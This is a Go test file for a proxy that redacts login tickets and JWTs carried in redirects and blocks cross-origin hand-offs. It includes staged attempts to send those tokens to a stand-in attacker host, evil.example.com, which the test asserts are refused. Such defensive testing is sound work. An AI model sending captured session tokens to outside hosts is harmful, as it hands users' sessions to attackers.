package proxy

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/pkuinfo/harness/manifest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The portal hands the card service a one-time ticket in a redirect's
// query, and the card service answers with its JWT in the next one
// (../shared/campus/README.md, the card's login). Both are sessions in all
// but name: a step sees them only as the marker, cannot send them on, and
// the proxy itself still follows a same-origin hand-off.
func TestHandoffCredentialsInRedirects(t *testing.T) {
	const (
		ticket = "ST-20261130-Tk7qLmX9pW2vB4nR"
		jwt    = "eyJhbGciOiJIUzI1NiJ9.aGFuZC1vZmYtand0LTk5.hand0ffSig"
		inner  = "innerTicket-5f4e3d2c1b0a9988"
		frag   = "fragmentAccess-0123456789abcdef"
	)
	card := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/berserker-auth/cas/login/pku":
			http.Redirect(w, r, "/plat/?synjones-auth="+jwt+"&page=2", http.StatusFound)
		case "/plat/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(`<script>var t = "` + r.URL.Query().Get("synjones-auth") + `";</script><p>page ` + r.URL.Query().Get("page") + `</p>`))
		default:
			echo(w, r)
		}
	})
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		target := card.URL + "/h5/?x=1&tk=" + inner
		loc := card.URL + "/berserker-auth/cas/login/pku?token=" + ticket + "&targetUrl=" + url.QueryEscape(target) + "#access_token=" + frag
		http.Redirect(w, r, loc, http.StatusFound)
	})
	attacker := newRecorder(t, echo)
	p := testProxy(t, card, portal, nil, Limits{}, nil)
	p.resolve["evil.example.com:80"] = attacker.Listener.Addr().String()
	acc := access("card", "portal")
	acc.Web = []manifest.Origin{webOrigin("http", "evil.example.com", 80)}
	call := p.NewCall("demo", acc)
	ctx := context.Background()

	// The cross-origin hand-off is not followed; its Location reaches the
	// step with every long parameter value redacted, short ones kept.
	resp, err := call.Do(ctx, &Request{Service: "portal", Path: "/portal2017/util/redirectToCard.do"})
	require.NoError(t, err)
	require.Equal(t, http.StatusFound, resp.Status)
	loc := resp.Header.Get("Location")
	for _, v := range []string{ticket, inner, frag, url.QueryEscape(ticket), url.QueryEscape(inner)} {
		assert.NotContains(t, loc, v)
	}
	assert.Contains(t, loc, Marker)
	assert.Contains(t, loc, "/berserker-auth/cas/login/pku?token=")
	assert.Empty(t, card.Hits(), "a cross-origin redirect is never followed")

	// A step that tries to use or send the ticket is refused before
	// anything leaves, whatever it rebuilt it from.
	for _, r := range []*Request{
		{Service: "card", Path: "/berserker-auth/cas/login/pku", Query: url.Values{"token": {ticket}}},
		{URL: "http://evil.example.com/c", Query: url.Values{"t": {ticket}}},
		{URL: "http://evil.example.com/c", Method: "POST", Body: []byte(`{"t":"` + inner + `"}`)},
		{URL: "http://evil.example.com/c/" + frag},
	} {
		_, err := call.Do(ctx, r)
		require.ErrorIs(t, err, ErrRefused, "%+v", r)
	}
	assert.Empty(t, card.Hits())
	assert.Equal(t, int64(0), attacker.n.Load())

	// A same-origin hand-off is followed by the proxy with the token (the
	// server needs it); the step sees neither the token in the final URL
	// nor the page that echoes it, while short values stay readable.
	call2 := p.NewCall("demo", acc)
	resp, err = call2.Do(ctx, &Request{Service: "card", Path: "/berserker-auth/cas/login/pku"})
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.Status)
	hits := card.Hits()
	require.Len(t, hits, 2)
	assert.Contains(t, hits[1].RawQuery, "synjones-auth="+jwt, "the proxy followed the hand-off as it came")
	assert.NotContains(t, resp.URL, jwt)
	assert.Contains(t, resp.URL, "page=2")
	assert.NotContains(t, string(resp.Body), jwt)
	assert.Contains(t, string(resp.Body), `var t = "`+Marker+`"`)
	assert.Contains(t, string(resp.Body), "page 2")
	for _, s := range []string{resp.URL, string(resp.Body)} {
		assertNoSecret(t, "response", s)
	}
}

// Short values and URLs are not hand-off credentials: a redirect to the
// next page of a listing stays readable.
func TestHandoffLeavesOrdinaryRedirects(t *testing.T) {
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://elsewhere.example.edu.cn/list?page=3&size=20&sort=date&from=2026-11-01&back="+url.QueryEscape("https://x.example.cn/a?b=c"), http.StatusFound)
	})
	p := testProxy(t, nil, portal, nil, Limits{}, nil)
	call := p.NewCall("demo", access("portal"))
	resp, err := call.Do(context.Background(), &Request{Service: "portal", Path: "/list"})
	require.NoError(t, err)
	loc := resp.Header.Get("Location")
	assert.False(t, strings.Contains(loc, Marker), loc)
	assert.Contains(t, loc, "from=2026-11-01")
}
